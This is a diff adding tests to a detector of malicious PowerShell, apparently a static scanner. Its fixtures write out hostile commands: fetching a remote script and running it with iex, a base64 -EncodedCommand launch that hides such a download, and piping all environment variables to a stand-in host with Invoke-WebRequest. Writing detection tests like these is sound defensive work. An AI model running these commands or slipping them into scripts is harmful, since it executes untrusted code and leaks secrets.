@@ -209,3 +209,30 @@ def test_broken_script_keeps_what_the_parser_recovered(tmp_path: Path) -> None:
 def test_a_scan_reports_the_download_and_run_of_a_script(tmp_path: Path) -> None:
     script = "$u = 'http://' + '198.51.100.7' + '/s.ps1'\niex ((New-Object Net.WebClient).DownloadString($u))\n"
     assert scan_errors(tmp_path, {"scripts/setup.ps1": script}) == {("DOWNLOAD_AND_RUN", "scripts/setup.ps1", 2)}
+
+
+def test_an_assignment_after_a_line_the_grammar_misparses_still_binds_its_variable(tmp_path: Path) -> None:
+    # tree-sitter-powershell glues ", Message\n$runner" into one left side after the hashtable lines
+    blob = base64.b64encode("iwr https://198.51.100.9/s.ps1 | iex".encode("utf-16-le")).decode()
+    found = analyse(
+        tmp_path,
+        "param([int]$Days = 3)\n"
+        "$from = (Get-Date).AddDays(-$Days)\n"
+        "Get-WinEvent -FilterHashtable @{LogName='Application'; Level=1,2; StartTime=$from} -ErrorAction Ignore |\n"
+        "  Group-Object { $_.Properties[1].Value } | Select-Object Name, Count\n"
+        "Get-WinEvent -FilterHashtable @{LogName='Setup'; Id=2,11; StartTime=$from} -ErrorAction Ignore |\n"
+        "  Select-Object ProviderName, Id, Message\n"
+        "$runner = 'pwsh.exe'\n"
+        f"$blob = '{blob}'\n"
+        "Start-Process $runner -ArgumentList '-NoLogo','-EncodedCommand',$blob\n",
+    )
+    assert Kind.EXEC_FETCHED in {c.kind for c in found}
+
+
+def test_the_environment_piped_into_a_web_request_is_its_body(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        '$report = Get-ChildItem -Path Env: | ForEach-Object { "$($_.Name)=$($_.Value)" }\n'
+        "$report | Out-String | Invoke-WebRequest -Uri https://collect.example.invalid/r -Method Put\n",
+    )
+    assert [line for line, _ in chain(found, Kind.EGRESS)] == [1, 2]
